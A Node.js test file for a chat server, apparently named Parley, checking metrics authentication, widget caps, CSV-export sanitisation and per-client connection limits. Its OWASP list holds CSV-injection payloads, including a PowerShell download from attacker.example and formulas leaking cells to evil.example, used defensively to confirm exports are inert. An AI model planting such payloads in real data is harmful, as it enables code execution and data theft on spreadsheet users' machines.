// Issue 13, the public surface (items 5, 6, 7, 10), one stack for all:
//  - /metrics from loopback needs the admin key once the request was
//    forwarded (X-Forwarded-For, Forwarded) or the peer is a trusted proxy;
//  - the HTTP chat (/v1/chat, /v1/chat/stream, /chat) obeys the default
//    widget: disabled -> 403, daily cap 3 -> the 4th turn 429, the model
//    never called for a refused turn;
//  - every OWASP CSV-injection payload, chatted and then exported as CSV
//    through the admin API (conversations and messages), is inert wherever
//    a spreadsheet may split the text;
//  - 2,000 connections from 127.0.0.2 are capped at
//    PARLEY_MAX_CONNS_PER_CLIENT per worker (the rest answered 429 or
//    closed) while 127.0.0.3 is served at once; a trusted proxy is not
//    capped; WebSockets are capped at PARLEY_MAX_WS_PER_CLIENT per worker.
import assert from 'node:assert/strict';
import net from 'node:net';
import { after, before, describe, test } from 'node:test';

import { Parley, sleep } from '../lib/harness.mjs';
import { assertJsonError } from '../lib/checks.mjs';
import { chat, sessionShown, sid } from '../lib/chat.mjs';
import { checkerFor } from '../lib/openapi.mjs';
import { Visitor } from '../lib/wsclient.mjs';

const WORKERS = 2;
const CONN_CAP = 256;        // PARLEY_MAX_CONNS_PER_CLIENT (default 1024)
const WS_CAP = 32;           // PARLEY_MAX_WS_PER_CLIENT (default 512)
const PROXY = '127.0.0.4';   // TRUST_PROXY
const DISABLED = 'This chat is disabled.';
const CAPPED = 'This chat has reached its daily message limit. Please come back tomorrow.';

// The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection
// and the usual lists built on it), and the same cut where a spreadsheet may
// split a cell (comma, semicolon, TAB, line ends, quotes and spaces before).
const OWASP = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMAGE("http://evil.example/x.png")',
  'x;=HYPERLINK("http://evil.example")',
  'x,=HYPERLINK("http://evil.example")',
  'x\t=1+1',
  'x; =1+1',
  'x;"=1+1"',
  'x,"@SUM(1)"',
  'a\n=1+1',
  'a\r\n=1+1',
  'a\r=1+1',
  'a\n\n-1+1',
  'a\n "+1',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '=1+1;=2+2,=3+3\t=4+4\n=5+5\r=6+6',
];
const LIVE = /^[=+\-@]/;

// RFC 4180: rows of cells (CRLF records; quoted cells may hold anything).
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', i = 0, quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i++; continue; }
      cell += ch; i++; continue;
    }
    if (ch === '"') {
      assert.equal(cell, '', `a quote inside an unquoted cell at ${i}`);
      quoted = true; i++; continue;
    }
    if (ch === ',') { row.push(cell); cell = ''; i++; continue; }
    if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    assert.ok(ch !== '\r' && ch !== '\n', `a bare line end outside quotes at ${i}`);
    cell += ch; i++;
  }
  assert.equal(quoted, false, 'an unterminated quote');
  assert.equal(cell, '', 'the last record ends with CRLF');
  assert.equal(row.length, 0);
  return rows;
}

// No cell a spreadsheet may cut from s (at , ; TAB CR LF, then past quotes
// and spaces) starts a formula.
function assertInert(s, what) {
  for (const piece of s.split(/[,;\t\r\n]/)) {
    const start = piece.replace(/^[" ]*/, '');
    assert.ok(!LIVE.test(start), `${what}: a live cell ${JSON.stringify(start.slice(0, 40))} in ${JSON.stringify(s.slice(0, 200))}`);
  }
}

// The guard's ' marks taken out (a ' before a formula's first byte where a
// cell may start), to compare a cell with what was sent.
function unmark(s) {
  return s.replace(/((?:^|[,;\t\r\n])[" ]*)'(?=[=+\-@\t\r])/g, '$1');
}

function postChat(p, path, sessionId, message, localAddress) {
  return p.request('POST', path, {
    headers: { 'Content-Type': 'application/json', 'x-api-key': p.widgetKey },
    body: JSON.stringify({ sessionId, message }),
    timeout: 15000,
    localAddress,
  });
}

// Opens n connections from localAddress, at most `batch` connecting at
// once; each records whether the server closed it and what it sent.
async function openMany(port, localAddress, n, batch = 250) {
  const socks = [];
  for (let i = 0; i < n; i += batch) {
    const part = [];
    for (let k = i; k < Math.min(n, i + batch); k++) {
      part.push(new Promise((resolve) => {
        const s = { data: '', gone: false, error: null };
        s.sock = net.connect({ port, host: '127.0.0.1', localAddress });
        s.sock.on('data', (d) => { s.data += d.toString('latin1'); });
        s.sock.on('error', (e) => { s.error = e.code; s.gone = true; resolve(s); });
        s.sock.on('end', () => { s.gone = true; });
        s.sock.on('close', () => { s.gone = true; resolve(s); });
        s.sock.on('connect', () => resolve(s));
      }));
    }
    socks.push(...await Promise.all(part));
  }
  return socks;
}

// The sockets still open, once that count satisfies done (a connection in
// masterd's accept queue looks open too) and has held still for 500 ms, or
// at the timeout.
async function settle(socks, done = () => true, timeout = 15000) {
  const deadline = Date.now() + timeout;
  let last = -1, since = Date.now();
  for (;;) {
    const open = socks.filter((s) => !s.gone).length;
    if (open !== last) { last = open; since = Date.now(); }
    if ((done(open) && Date.now() - since >= 500) || Date.now() > deadline) return open;
    await sleep(50);
  }
}

function closeAll(socks) {
  for (const s of socks) s.sock.destroy();
}

async function healthFrom(p, localAddress) {
  const t0 = performance.now();
  const r = await p.request('GET', '/health', { localAddress, timeout: 5000 });
  assert.equal(r.status, 200);
  return performance.now() - t0;
}

describe('the public surface (issue 13: metrics, HTTP chat, CSV, connection caps)', () => {
  let p, api, wid;

  before(async () => {
    p = new Parley({
      workers: WORKERS,
      mock: true,
      env: {
        TRUST_PROXY: PROXY,
        PARLEY_METRICS_OPEN: 'loopback',
        RATE_LIMIT_MAX_REQUESTS: '0',
        PARLEY_MAX_CONNS_PER_CLIENT: String(CONN_CAP),
        PARLEY_MAX_WS_PER_CLIENT: String(WS_CAP),
      },
    });
    await p.start();
    api = await checkerFor(p);
    const r = await p.admin('/v1/admin/widgets');
    wid = r.json().widgets.find((w) => w.id === 'default').widget_id;
  });
  after(() => p && p.stop());

  function patchDefault(fields) {
    return p.request('PATCH', `/v1/admin/widgets/${wid}`, {
      headers: { 'x-admin-api-key': p.adminKey, 'Content-Type': 'application/json' },
      body: JSON.stringify(fields),
    });
  }

  test('/metrics: a forwarded request or a trusted proxy needs the key', async () => {
    const key = { 'x-admin-api-key': p.adminKey };
    assert.equal((await p.get('/metrics')).status, 200, 'loopback, not forwarded, PARLEY_METRICS_OPEN=loopback');
    for (const h of [{ 'X-Forwarded-For': '203.0.113.9' }, { Forwarded: 'for=203.0.113.9' },
      { 'X-Forwarded-For': '127.0.0.1' }, { 'X-Forwarded-For': '' }, { 'X-Real-IP': '203.0.113.9' }]) {
      const r = await p.get('/metrics', { headers: h });
      assertJsonError(r, 401, 'Unauthorized');
      assert.equal((await p.get('/metrics', { headers: { ...h, ...key } })).status, 200);
    }
    assertJsonError(await p.get('/metrics', { localAddress: PROXY }), 401, 'Unauthorized');
    assert.equal((await p.get('/metrics', { localAddress: PROXY, headers: key })).status, 200);
    assertJsonError(await p.get('/metrics', { localAddress: PROXY, headers: { 'x-admin-api-key': 'wrong' } }), 401);
  });

  test('the HTTP chat obeys the default widget: disabled, then a daily cap of 3', async () => {
    const paths = ['/v1/chat', '/v1/chat/stream', '/chat'];
    await p.mock.resetStats();
    assert.equal((await patchDefault({ enabled: false })).status, 200);
    const used = { off: [], cap: [], over: [] };
    const session = (kind) => { const s = sid(kind); used[kind].push(sessionShown(s)); return s; };
    for (const path of paths) {
      const r = await postChat(p, path, session('off'), 'hello');
      assertJsonError(r, 403, DISABLED);
      api.checkJson('POST', path, r);
    }
    assert.equal((await patchDefault({ enabled: true, daily_message_cap: 3 })).status, 200);
    for (const [i, path] of paths.entries()) {
      const r = await postChat(p, path, session('cap'), `turn ${i + 1}`);
      assert.equal(r.status, 200, `turn ${i + 1} on ${path}: ${r.status} ${r.text}`);
    }
    for (const path of paths) {
      const r = await postChat(p, path, session('over'), 'turn 4');
      assertJsonError(r, 429, CAPPED);
      api.checkJson('POST', path, r);
      const ra = Number(r.headers['retry-after']);
      assert.ok(ra >= 1 && ra <= 86400, `Retry-After ${r.headers['retry-after']}: the rest of the UTC day`);
    }
    // The same count holds the widget's WebSocket: its 4th turn is refused too.
    const v = await Visitor.open(p, wid);
    try {
      await v.next('session');
      v.send({ type: 'message', content: 'turn 5' });
      const e = await v.next('error');
      assert.equal(e.message, CAPPED);
    } finally {
      v.close();
    }
    const st = await p.mock.stats();
    assert.equal(st.requests, 3, 'the model answered the 3 turns in the cap and nothing else');
    // Nothing of the refused turns was stored.
    const convs = (await p.admin('/v1/admin/conversations?limit=200')).json();
    const sessions = convs.conversations.map((c) => c.sessionId);
    assert.equal(sessions.filter((s) => used.off.includes(s) || used.over.includes(s)).length, 0);
    assert.equal(sessions.filter((s) => used.cap.includes(s)).length, 3);
    assert.equal((await patchDefault({ daily_message_cap: null })).status, 200);
  });

  test('the chat history obeys the default widget too: 403 while disabled', async () => {
    const session = sid('hist');
    assert.equal((await postChat(p, '/v1/chat', session, 'hello before')).status, 200);
    const history = () => p.get(`/v1/chat/history?sessionId=${encodeURIComponent(session)}`,
      { headers: { 'x-api-key': p.widgetKey } });
    assert.deepEqual((await history()).json().messages.map((m) => m.role), ['user', 'assistant']);
    assert.equal((await patchDefault({ enabled: false })).status, 200);
    try {
      const off = await history();
      assertJsonError(off, 403, DISABLED);
      api.checkJson('GET', '/v1/chat/history', off);
    } finally {
      assert.equal((await patchDefault({ enabled: true })).status, 200);
    }
    assert.deepEqual((await history()).json().messages.map((m) => m.role), ['user', 'assistant']);
  });

  test(`every OWASP CSV payload (${OWASP.length}) exported is inert`, async () => {
    // As chat messages (content, lastMessage, the model's echo), and a
    // session id a spreadsheet would read as a formula (exported as its
    // digest).
    const sent = [];
    await Promise.all(OWASP.map(async (payload, i) => {
      const session = `-csv-${i}-${sid('x')}`;
      const r = await postChat(p, '/v1/chat', session, payload);
      assert.equal(r.status, 200, `${JSON.stringify(payload)}: ${r.status} ${r.text}`);
      sent.push({ payload, session, conv: r.json().conversationId });
    }));
    for (const rows of ['messages', 'conversations']) {
      const r = await p.admin(`/v1/admin/export?format=csv&rows=${rows}`, { timeout: 20000 });
      assert.equal(r.status, 200);
      const text = r.body.toString('utf8');
      assertInert(text, `${rows} export, the whole file`);
      const table = parseCsv(text);
      const head = table[0];
      for (const row of table.slice(1)) {
        assert.equal(row.length, head.length);
        for (const cell of row) assertInert(cell, `${rows} cell`);
      }
      if (rows === 'messages') {
        const ci = head.indexOf('content'), ri = head.indexOf('role'), cv = head.indexOf('conversationId');
        for (const s of sent) {
          const user = table.find((row) => row[cv] === s.conv && row[ri] === 'user');
          assert.ok(user, `the message of ${s.conv}`);
          assert.equal(unmark(user[ci]), unmark(s.payload), `${JSON.stringify(s.payload)} reads back`);
        }
      } else {
        // The session is shown as its digest (issue 20), never as sent.
        const si = head.indexOf('sessionId');
        for (const s of sent) {
          const row = table.find((x) => x[0] === s.conv);
          assert.ok(row, `the conversation ${s.conv}`);
          assert.equal(row[si], sessionShown(s.session));
        }
      }
    }
  });

  test(`2,000 connections from one address: ${CONN_CAP} a worker held, the rest refused; another address served at once`, async (t) => {
    const base = [];
    for (let i = 0; i < 10; i++) base.push(await healthFrom(p, '127.0.0.3'));
    const t0 = Date.now();
    const socks = await openMany(p.port, '127.0.0.2', 2000);
    try {
      const held = await settle(socks, (n) => n <= CONN_CAP * WORKERS);
      const ms = Date.now() - t0;
      const answered = socks.filter((s) => s.data.startsWith('HTTP/1.1 429 ')).length;
      const reset = socks.filter((s) => s.error).length;
      // Another address meanwhile, one request after another.
      const during = [];
      for (let i = 0; i < 20; i++) during.push(await healthFrom(p, '127.0.0.3'));
      during.sort((a, b) => a - b);
      const p99 = during[during.length - 1];
      t.diagnostic(`2000 connections from 127.0.0.2: ${held} held (cap ${CONN_CAP} x ${WORKERS} workers), ` +
        `${2000 - held} refused (${answered} read the 429, ${reset} reset) in ${ms} ms; ` +
        `/health from 127.0.0.3 meanwhile: median ${during[10].toFixed(1)} ms, max ${p99.toFixed(1)} ms ` +
        `(before: max ${Math.max(...base).toFixed(1)} ms)`);
      assert.ok(held <= CONN_CAP * WORKERS, `held ${held} <= ${CONN_CAP * WORKERS}`);
      assert.ok(held >= CONN_CAP, `held ${held}: at least one worker at its cap`);
      const body = socks.find((s) => s.data.startsWith('HTTP/1.1 429 '));
      if (body) assert.match(body.data, /\r\n\r\n\{"error":"Too many connections"\}$/);
      assert.ok(p99 < 1000, `/health from another address answers at once while the 2,000 are held (max ${p99} ms)`);
      // Held ones still work.
      const live = socks.filter((s) => !s.gone).slice(0, 5);
      for (const s of live) {
        s.sock.write('GET /health HTTP/1.1\r\nHost: x\r\n\r\n');
      }
      // answered within 300 ms (looked at as they come, not after a sleep)
      const t1 = Date.now();
      while (!live.every((s) => /^HTTP\/1.1 200 /.test(s.data)) && Date.now() - t1 < 300) await sleep(10);
      for (const s of live) assert.match(s.data, /^HTTP\/1.1 200 /);
    } finally {
      closeAll(socks);
    }
    // Given back: 127.0.0.2 is served again.
    await sleep(200);
    await healthFrom(p, '127.0.0.2');
  });

  test('a trusted proxy is not capped by the connection count', async () => {
    const n = CONN_CAP * WORKERS + 100;
    const socks = await openMany(p.port, PROXY, n);
    try {
      assert.equal(await settle(socks, () => true, 5000), n, 'every connection of the proxy held');
    } finally {
      closeAll(socks);
    }
  });

  test(`WebSockets: ${WS_CAP} a worker per client, the rest 429 before the 101`, async (t) => {
    const n = WS_CAP * WORKERS + 16;
    const res = await Promise.allSettled(Array.from({ length: n }, () => Visitor.open(p, wid)));
    const open = res.filter((r) => r.status === 'fulfilled').map((r) => r.value);
    const refused = res.filter((r) => r.status === 'rejected');
    try {
      t.diagnostic(`${n} WebSockets from 127.0.0.1: ${open.length} open (cap ${WS_CAP} x ${WORKERS}), ${refused.length} refused`);
      assert.ok(open.length <= WS_CAP * WORKERS && open.length >= WS_CAP, `${open.length} open`);
      assert.equal(open.length + refused.length, n);
      for (const r of refused) assert.match(r.reason.message, /^upgrade refused: 429 \{"error":"Too many WebSockets"\}/);
    } finally {
      for (const v of open) v.close();
    }
    await Promise.all(open.map((v) => v.closed));
    // Given back once closed.
    await sleep(200);
    const v = await Visitor.open(p, wid);
    v.close();
  });
});
